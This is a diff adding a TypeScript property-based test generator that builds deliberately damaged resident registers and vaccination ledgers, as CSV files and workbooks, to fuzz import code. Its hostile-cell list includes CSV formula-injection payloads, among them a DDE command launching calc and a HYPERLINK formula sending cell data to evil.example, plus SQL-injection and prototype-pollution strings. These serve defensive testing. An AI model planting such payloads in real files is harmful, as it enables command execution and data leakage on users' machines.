@@ -1,0 +1,303 @@
+import fc from 'fast-check';
+import iconv from 'iconv-lite';
+import { composeIdNumber } from '../../src/domain/idcard.js';
+import { dateFromDayNumber, dayNumber } from '../../src/domain/calendar.js';
+import { storedZip, workbookParts } from './storedZip.js';
+
+/**
+ * Files for the importers as they arrive from the field, and worse: registers and ledgers with
+ * hostile cells, in every encoding (declared rightly or wrongly), cut short or with bytes
+ * flipped; random bytes; workbooks whose XML is broken.
+ */
+
+/** Text a spreadsheet user can put in a cell that a formula-aware program may run. */
+export const FORMULAS = [
+  '=CMD|\' /C calc\'!A0',
+  '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
+  '+SUM(1,2)',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '=1+1',
+  '\t=1+1',
+  '＝1+1',
+]; // prettier-ignore
+
+/** Cells that break naive readers: quotes, delimiters, line breaks, controls, odd Unicode. */
+const NASTY = [
+  '', ' ', '"', '""', '"a,b"', 'a\nb', 'a\r\nb', '\r', ',', ';', '\t', '\u0000', '张\u0000三', '\u001b[31m',
+  '\ufeff', '\u202e', '😀', '\ud800', '𠀀', '<b>x</b>', "'); DROP TABLE residents; --", '%s%n', '__proto__',
+  'constructor', '0', '-1', '1e999', 'NaN', '9'.repeat(40), '男', '女', '户主', '网格', '锦石村',
+]; // prettier-ignore
+
+const NAMES = ['张建国', '李秀英', '王芳', '欧阳娜娜', '阿依古丽·买买提', '赵 六'];
+const VILLAGES = ['锦石村', '锦石村委会', '唐家湖村', '石头村'];
+const GRIDS = ['网格001', '网格002', '第3网格', '', '网格 一'];
+
+const birth = fc
+  .integer({ min: dayNumber('1930-01-01'), max: dayNumber('2015-12-31') })
+  .map(dateFromDayNumber);
+export const idNumber = fc
+  .tuple(birth, fc.integer({ min: 1, max: 999 }))
+  .map(([b, seq]) => composeIdNumber('430321', b, seq));
+
+/** Mostly good values of a field, now and then hostile ones. */
+const cellOf = (good: fc.Arbitrary<string>): fc.Arbitrary<string> =>
+  fc.oneof(
+    { arbitrary: good, weight: 24 },
+    { arbitrary: fc.constantFrom(...FORMULAS, ...NASTY), weight: 2 },
+    { arbitrary: fc.string({ unit: 'binary', maxLength: 12 }), weight: 1 },
+  );
+
+export const REGISTER_HEADER = [
+  '姓名',
+  '身份证号码',
+  '性别',
+  '出生日期',
+  '联系电话',
+  '乡镇',
+  '村（社区）',
+  '网格',
+  '户号',
+  '与户主关系',
+  '现住址',
+];
+
+export const registerRow: fc.Arbitrary<string[]> = fc
+  .tuple(idNumber, fc.boolean())
+  .chain(([id, sexRight]) =>
+    fc.tuple(
+      cellOf(fc.constantFrom(...NAMES)),
+      cellOf(fc.constant(id)),
+      cellOf(fc.constant((Number(id[16]) % 2 === 1) === sexRight ? '男' : '女')),
+      cellOf(fc.constantFrom(`${id.slice(6, 10)}-${id.slice(10, 12)}-${id.slice(12, 14)}`, '', '1960/6/6')),
+      cellOf(fc.constantFrom('13807321234', '', '0731-57862345', '138 0732 1234')),
+      cellOf(fc.constantFrom('锦石乡', '')),
+      cellOf(fc.constantFrom(...VILLAGES)),
+      cellOf(fc.constantFrom(...GRIDS)),
+      cellOf(fc.constantFrom('0001', '0002', '', '12')),
+      cellOf(fc.constantFrom('户主', '配偶', '子', '')),
+      cellOf(fc.constantFrom('锦石村一组12号', '', '锦石村 二组')),
+    ),
+  );
+
+export const LEDGER_HEADER = [
+  '姓名',
+  '身份证号',
+  '第一剂次接种日期',
+  '第二剂次接种日期',
+  '疫苗名称',
+  '批号',
+  '接种单位',
+];
+
+/** A ledger row for one of `ids` (registered residents) or a stranger. */
+export const ledgerRow = (ids: readonly string[]): fc.Arbitrary<string[]> =>
+  fc.tuple(
+    cellOf(fc.constantFrom(...NAMES)),
+    cellOf(fc.oneof(fc.constantFrom(...ids), idNumber)),
+    cellOf(fc.constantFrom('2021-07-01', '2021/7/1', '2021年7月1日', '', '2021-13-01', '44378')),
+    cellOf(fc.constantFrom('2021-07-26', '', '2021-07-02', '2099-01-01')),
+    cellOf(fc.constantFrom('北京生物', '科兴', 'sinovac', '智飞', '')),
+    cellOf(fc.constantFrom('202107A001', '')),
+    cellOf(fc.constantFrom('锦石乡卫生院', '')),
+  );
+
+/** One CSV field, quoted when it must be. */
+const field = (cell: string, d: string): string =>
+  /["\r\n]/.test(cell) || cell.includes(d) ? `"${cell.replaceAll('"', '""')}"` : cell;
+
+export const csvText = (rows: readonly (readonly string[])[], d = ',', eol = '\r\n'): string =>
+  rows.map((r) => r.map((c) => field(c, d)).join(d)).join(eol) + eol;
+
+/** A table as CSV text: optional title line, delimiter and line ends as spreadsheets vary them. */
+export const csvOf = (header: readonly string[], row: fc.Arbitrary<string[]>): fc.Arbitrary<string> =>
+  fc
+    .record({
+      title: fc.constantFrom('', '锦石村居民花名册（2021年8月）'),
+      rows: fc.array(row, { minLength: 0, maxLength: 12 }),
+      d: fc.constantFrom(',', '\t', ';'),
+      eol: fc.constantFrom('\r\n', '\n', '\r'),
+    })
+    .map(({ title, rows, d, eol }) => (title ? title + eol : '') + csvText([header, ...rows], d, eol));
+
+export type Encoding =
+  'utf-8' | 'utf-8-bom' | 'gb18030' | 'gbk' | 'utf-16le' | 'utf-16le-bom' | 'utf-16be-bom';
+
+export function encode(text: string, enc: Encoding): Buffer {
+  switch (enc) {
+    case 'utf-8':
+      return Buffer.from(text, 'utf8');
+    case 'utf-8-bom':
+      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
+    case 'utf-16le':
+      return iconv.encode(text, 'utf-16le');
+    case 'utf-16le-bom':
+      return Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')]);
+    case 'utf-16be-bom':
+      return Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')]);
+    default:
+      return iconv.encode(text, enc);
+  }
+}
+
+/** `--encoding` as each encoding is rightly named (BOM-less UTF-16 needs it said). */
+const NAMED: Record<Encoding, string> = {
+  'utf-8': 'utf-8',
+  'utf-8-bom': 'utf8',
+  gb18030: 'gb18030',
+  gbk: 'GBK',
+  'utf-16le': 'utf-16le',
+  'utf-16le-bom': 'unicode',
+  'utf-16be-bom': 'utf-16be',
+};
+
+/** What `--encoding` says: nothing (detect), the truth, or a lie. */
+const declared = (enc: Encoding): fc.Arbitrary<string | undefined> =>
+  fc.oneof(
+    { arbitrary: fc.constant(undefined), weight: 3 },
+    { arbitrary: fc.constant(NAMED[enc]), weight: 2 },
+    { arbitrary: fc.constantFrom('utf-8', 'gbk', 'utf-16le', 'latin1', 'big5', 'klingon', ''), weight: 2 },
+  );
+
+/** Damage done to a file's bytes: cut short (inside a multi-byte character, often), bytes changed. */
+export const damage = (bytes: Buffer): fc.Arbitrary<Buffer> =>
+  fc.oneof(
+    { arbitrary: fc.constant(bytes), weight: 3 },
+    fc.nat({ max: Math.max(0, bytes.length - 1) }).map((n) => bytes.subarray(0, n)),
+    fc
+      .array(fc.tuple(fc.nat({ max: Math.max(0, bytes.length - 1) }), fc.integer({ min: 0, max: 255 })), {
+        minLength: 1,
+        maxLength: 8,
+      })
+      .map((flips) => {
+        const b = Buffer.from(bytes);
+        for (const [at, v] of flips) if (at < b.length) b[at] = v;
+        return b;
+      }),
+  );
+
+const ENCODINGS: Encoding[] = [
+  'utf-8',
+  'utf-8-bom',
+  'gb18030',
+  'gbk',
+  'utf-16le',
+  'utf-16le-bom',
+  'utf-16be-bom',
+];
+
+/** A text file encoded one way, declared (maybe) another, maybe damaged. */
+export const encodedFile = (text: fc.Arbitrary<string>) =>
+  fc
+    .tuple(text, fc.constantFrom(...ENCODINGS))
+    .chain(([text, enc]) =>
+      fc.record({ bytes: damage(encode(text, enc)), enc: fc.constant(enc), declared: declared(enc) }),
+    );
+
+const MAGICS = [
+  [],
+  [0xef, 0xbb, 0xbf],
+  [0xff, 0xfe],
+  [0xfe, 0xff],
+  [0x50, 0x4b, 0x03, 0x04],
+  [0xd0, 0xcf, 0x11, 0xe0],
+  [0x50, 0x4b, 0x05, 0x06],
+];
+
+/** Random bytes, sometimes behind a BOM or a zip's or an old Excel file's magic number. */
+export const randomBytes: fc.Arbitrary<Buffer> = fc
+  .tuple(fc.constantFrom(...MAGICS), fc.uint8Array({ maxLength: 2048 }))
+  .map(([magic, rest]) => Buffer.concat([Buffer.from(magic), Buffer.from(rest)]));
+
+// ------------------------------------------------------------------------------------------
+// Workbooks with broken insides
+
+const xmlEscape = (s: string): string =>
+  s.replace(/[<>&"]/g, (c) => ({ '<': '&lt;', '>': '&gt;', '&': '&amp;', '"': '&quot;' })[c] as string);
+
+/** Mostly what a row's cells should say (column letter and row number), now and then nonsense. */
+const cellRef = (row: number, column: number): fc.Arbitrary<string | null> =>
+  fc.oneof(
+    { arbitrary: fc.constant(`${String.fromCharCode(65 + (column % 26))}${row}`), weight: 8 },
+    fc.constantFrom('A1', 'XFD1', 'XFE1', 'A0', 'A-1', 'ZZZZ9', '1A', '', 'A1048577', 'A99999999999'),
+    fc.string({ maxLength: 6 }),
+    fc.constant(null),
+  );
+
+/** A <c> element: any type, any value, sometimes a reference to a shared string that is not there. */
+const xmlCell = (row: number, column: number): fc.Arbitrary<string> =>
+  fc
+    .record({
+      r: cellRef(row, column),
+      t: fc.option(fc.constantFrom('s', 'str', 'inlineStr', 'n', 'b', 'e', 'd', 'x')),
+      v: fc.oneof(
+        fc.constantFrom('0', '1', '2', '-1', '99999999', '1e308', 'NaN', '', '430321195003010118', '44378.5'),
+        fc.string({ maxLength: 8 }),
+        fc.constantFrom(...REGISTER_HEADER, ...LEDGER_HEADER),
+      ),
+      s: fc.option(fc.constantFrom('0', '1', '999', '-1')),
+    })
+    .map(({ r, t, v, s }) => {
+      const attrs = `${r === null ? '' : ` r="${xmlEscape(r)}"`}${t === null ? '' : ` t="${t}"`}${s === null ? '' : ` s="${s}"`}`;
+      return t === 'inlineStr'
+        ? `<c${attrs}><is><t>${xmlEscape(v)}</t></is></c>`
+        : `<c${attrs}><v>${xmlEscape(v)}</v></c>`;
+    });
+
+const xmlRow = fc
+  .oneof(
+    { arbitrary: fc.integer({ min: 2, max: 20 }), weight: 6 },
+    fc.constantFrom(1, 0, -5, 1048577, 99999999999),
+  )
+  .chain((n) =>
+    fc.tuple(
+      fc.oneof({ arbitrary: fc.constant(String(n)), weight: 6 }, fc.constantFrom(null, 'x', '')),
+      fc
+        .array(fc.nat({ max: 12 }), { maxLength: 8 })
+        .chain((cols) => fc.tuple(...cols.map((c) => xmlCell(n, c)))),
+    ),
+  )
+  .map(([r, cells]) => `<row${r === null ? '' : ` r="${r}"`}>${cells.join('')}</row>`);
+
+/** A header row of shared strings 0.. so that some workbooks get past header detection. */
+const headerRow = (header: readonly string[]): string =>
+  `<row r="1">${header.map((_, i) => `<c r="${String.fromCharCode(65 + i)}1" t="s"><v>${i}</v></c>`).join('')}</row>`;
+
+const junkXml = fc.oneof(
+  fc.string({ maxLength: 60 }),
+  fc.constantFrom(
+    '<row>',
+    '</sheetData><sheetData>',
+    '<![CDATA[',
+    '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
+    '&#0;',
+    '&bogus;',
+  ),
+);
+
+/** A one-sheet workbook, well zipped, with a sheet and shared strings of any shape. */
+export const brokenWorkbook = (header: readonly string[]): fc.Arbitrary<Buffer> =>
+  fc
+    .record({
+      withHeader: fc.boolean(),
+      rows: fc.array(xmlRow, { maxLength: 6 }),
+      junk: fc.option(junkXml, { freq: 2 }),
+      extra: fc.array(fc.string({ maxLength: 10 }), { maxLength: 3 }),
+      // Half the workbooks keep every part.
+      drop: fc.option(
+        fc.constantFrom(
+          'xl/workbook.xml',
+          'xl/sharedStrings.xml',
+          'xl/worksheets/sheet1.xml',
+          '[Content_Types].xml',
+        ),
+        { freq: 2 },
+      ),
+      sheetName: fc.constantFrom('Sheet1', '花名册', '', 'a"b', 'x'.repeat(40)),
+    })
+    .map(({ withHeader, rows, junk, extra, drop, sheetName }) => {
+      const strings = [...header, ...extra].map((s) => `<si><t>${xmlEscape(s)}</t></si>`).join('');
+      const sheet = (withHeader ? headerRow(header) : '') + rows.join('') + (junk ?? '');
+      const parts = workbookParts(sheet, strings, xmlEscape(sheetName)).filter((p) => p.name !== drop);
+      return storedZip(parts);
+    });
